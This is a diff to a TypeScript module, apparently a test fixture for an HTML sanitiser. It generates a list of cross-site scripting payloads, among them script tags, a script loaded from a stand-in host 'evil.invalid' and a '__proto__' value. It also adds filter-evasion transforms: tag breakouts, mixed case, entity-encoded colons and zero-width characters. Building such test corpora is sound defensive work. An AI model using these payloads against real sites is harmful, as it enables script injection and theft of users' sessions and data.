@@ -4,7 +4,7 @@ import type { AddressInfo } from "node:net";
 const elsewhere = "//evil.invalid/x.js";
 
 /** Ways to run a script or leave the page that other programs fell for; each shows when it works. */
-export const payloads: readonly string[] = [
+const plain: readonly string[] = [
   "<script>alert(1)</script>",
   `<script src=${elsewhere}></script>`,
   "<script>alert(2)//",
@@ -81,6 +81,23 @@ export const payloads: readonly string[] = [
   "__proto__",
   "<plaintext>",
 ];
+
+/** Texts that stand before or after a value in some page, and what a filter may do to it on the way. */
+const disguises: readonly ((payload: string) => string)[] = [
+  (payload) => `"><${payload}`,
+  (payload) => `'/>${payload}`,
+  (payload) => `</title></textarea></style></script>${payload}`,
+  (payload) => payload.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
+  (payload) => payload.replaceAll(" ", "/").replaceAll(":", "&colon;"),
+  (payload) => payload.replace(/alert/g, "al\u200bert").replace(/</g, "＜<"),
+];
+
+/** All of them, plain first, then in every disguise. */
+export const payloads: readonly string[] = [
+  ...new Set([...plain, ...disguises.flatMap((disguise) => plain.map(disguise))]),
+]
+  .filter((payload) => payload.length <= 150)
+  .slice(0, 320);
 
 const isHostile = (value: unknown): value is Record<string, unknown> =>
   typeof value === "object" && value !== null && "id" in value && String(value.id).startsWith("xss-");
